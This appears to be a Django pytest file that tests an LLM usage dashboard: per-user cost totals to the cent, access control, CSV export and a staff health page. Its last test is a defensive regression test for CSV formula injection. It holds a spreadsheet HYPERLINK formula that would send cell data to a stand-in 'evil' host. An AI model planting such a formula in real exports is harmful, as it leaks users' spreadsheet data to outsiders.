"""Cost dashboard, health page, CSV export and the usage API: exact to the cent, per user."""

import csv
import io
from decimal import Decimal

import pytest

from llm.models import LLMQuery, UsageDaily
from llm.records.rollups import rebuild
from llm.calls import complete
from llm.testing.fake_provider import Reply

pytestmark = pytest.mark.django_db


@pytest.fixture
def calls(providers, fake, owner, outsider):
    """Hand-priced calls: every figure below is computed by hand from the bundled prices."""
    fake.script(
        # gpt-4o: 800 x 2.50 + 200 cached x 1.25 + 500 x 10.00 (100 reasoning inside) = $0.00725
        Reply(text="a", usage={"input_tokens": 1000, "cached_input_tokens": 200, "output_tokens": 500, "reasoning_tokens": 100}),
        # gpt-4o-mini: 2000 x 0.15 + 1000 x 0.60 = $0.0009
        Reply(text="b", usage={"input_tokens": 2000, "output_tokens": 1000}),
        # claude-sonnet-4-5: 1000 x 3 + 1000 cached x 0.30 + 100 x 15 = $0.0048
        Reply(text="c", usage={"input_tokens": 2000, "cached_input_tokens": 1000, "output_tokens": 100}),
        # unknown model: cost NULL
        Reply(text="d", usage={"input_tokens": 10, "output_tokens": 10}),
        # outsider's call: gpt-4o 100 x 2.5 + 100 x 10 = $0.00125
        Reply(text="e", usage={"input_tokens": 100, "output_tokens": 100}),
    )
    complete(purpose="artifacts.summary", prompt="1", provider="openai", model="gpt-4o", user=owner)
    complete(purpose="segmentation.extract_taxonomy", prompt="2", provider="openai", model="gpt-4o-mini", user=owner)
    complete(purpose="artifacts.quiz", prompt="3", provider="anthropic", model="claude-sonnet-4-5", user=owner)
    complete(purpose="codegen.step_1", prompt="4", provider="openai", model="brand-new-model", user=owner)
    complete(purpose="artifacts.summary", prompt="5", provider="openai", model="gpt-4o", user=outsider)
    complete(purpose="artifacts.summary", prompt="1", provider="openai", model="gpt-4o", user=owner)  # cache hit
    return fake


def test_totals_equal_the_logged_costs_to_the_cent(client, calls, owner):
    client.force_login(owner)
    data = client.get("/api/llm/usage").json()
    logged = sum(q.cost_usd for q in LLMQuery.objects.filter(user=owner, cost_usd__isnull=False))
    assert Decimal(str(data["totals"]["cost_usd"])) == logged == Decimal("0.01295")
    assert data["totals"]["calls"] == 5 and data["totals"]["unknown_cost_calls"] == 1
    assert Decimal(str(data["totals"]["saved_cost_usd"])) == Decimal("0.00725")
    by_model = {r["key"]: Decimal(str(r["cost_usd"])) for r in data["by"]["model"]}
    assert by_model == {"gpt-4o": Decimal("0.00725"), "gpt-4o-mini": Decimal("0.0009"),
                        "claude-sonnet-4-5": Decimal("0.0048"), "brand-new-model": Decimal("0")}
    by_app = {r["key"]: Decimal(str(r["cost_usd"])) for r in data["by"]["app"]}
    assert by_app["artifacts"] == Decimal("0.01205") and by_app["segmentation"] == Decimal("0.0009")
    assert data["unknown_prices"] == [{"provider_name": "openai", "model_name": "brand-new-model", "calls": 1}]
    assert "user" not in data["by"]


def test_a_user_never_sees_another_users_numbers(client, calls, outsider, staff):
    client.force_login(outsider)
    data = client.get("/api/llm/usage").json()
    assert data["totals"]["calls"] == 1 and Decimal(str(data["totals"]["cost_usd"])) == Decimal("0.00125")
    page = client.get("/llm/dashboard/").content.decode()
    assert "0.001250" in page and "0.012950" not in page and "claude" not in page
    client.force_login(staff)
    everyone = client.get("/api/llm/usage").json()
    assert Decimal(str(everyone["totals"]["cost_usd"])) == Decimal("0.01420")
    assert {r["key"] for r in everyone["by"]["user"]} == {"owner", "outsider"}


def test_the_rollup_rebuilt_from_the_log_matches_the_incremental_one(calls):
    before = sorted(UsageDaily.objects.values_list("purpose", "model_name", "status", "calls", "cost_usd", "input_tokens",
                                                   "lat_b0"))
    rebuild()
    after = sorted(UsageDaily.objects.values_list("purpose", "model_name", "status", "calls", "cost_usd", "input_tokens",
                                                  "lat_b0"))
    assert before == after


def test_csv_export_has_the_rows_behind_the_view(client, calls, owner):
    client.force_login(owner)
    response = client.get("/llm/dashboard/export.csv?purpose=artifacts")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {r["purpose"] for r in rows} == {"artifacts.summary", "artifacts.quiz"}
    assert len(rows) == 3 and all(r["user_id"] == str(owner.pk) for r in rows)
    assert sum(Decimal(r["cost_usd"]) for r in rows) == Decimal("0.01205")


def test_filters_and_bad_dates(client, calls, owner):
    client.force_login(owner)
    assert client.get("/api/llm/usage?start=2020-13-01").status_code == 400
    assert client.get("/api/llm/usage?start=2030-01-02&end=2030-01-01").status_code == 400
    data = client.get("/api/llm/usage?model=gpt-4o-mini").json()
    assert data["totals"]["calls"] == 1
    page = client.get("/llm/dashboard/?start=2030-01-02&end=2030-01-01").content.decode()
    assert "start date must be on or before" in page


def test_health_page_is_for_staff_and_shows_error_rates(client, calls, owner, staff, fake):
    fake.script(Reply(status=429, retry_after=0), Reply(text="ok"))
    complete(purpose="tests.health", prompt="x", provider="openai", model="gpt-4o-mini", user=owner)
    client.force_login(owner)
    assert client.get("/llm/health/").status_code == 403
    client.force_login(staff)
    page = client.get("/llm/health/").content.decode()
    assert "openai/gpt-4o-mini" in page and "rate_limited" in page and "Most recent failures" in page
    from llm.records.usage import health, rollups, Filters

    row = next(r for r in health(rollups(staff, Filters.default())) if r["model"] == "gpt-4o-mini")
    assert row["errors"]["rate_limited"] == 1 and row["retries_per_success"] == 0.5


def test_csv_export_neutralises_formulas_in_user_typed_model_names(client, providers, fake, owner):
    # Finding 8 of issue 19: a model name typed by the user reached the CSV as a live formula.
    fake.script(Reply(text="a", usage={"input_tokens": 1, "output_tokens": 1}),
                Reply(text="b", usage={"input_tokens": 1, "output_tokens": 1}))
    complete(purpose="artifacts.summary", prompt="1", provider="openai", model='=HYPERLINK("http://evil/?"&A1)', user=owner)
    complete(purpose="artifacts.summary", prompt="2", provider="openai", model="@SUM(1+1)", user=owner)
    client.force_login(owner)
    body = b"".join(client.get("/llm/dashboard/export.csv").streaming_content).decode()
    models = {r["model_name"] for r in csv.DictReader(io.StringIO(body))}
    assert models == {"'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(1+1)"}
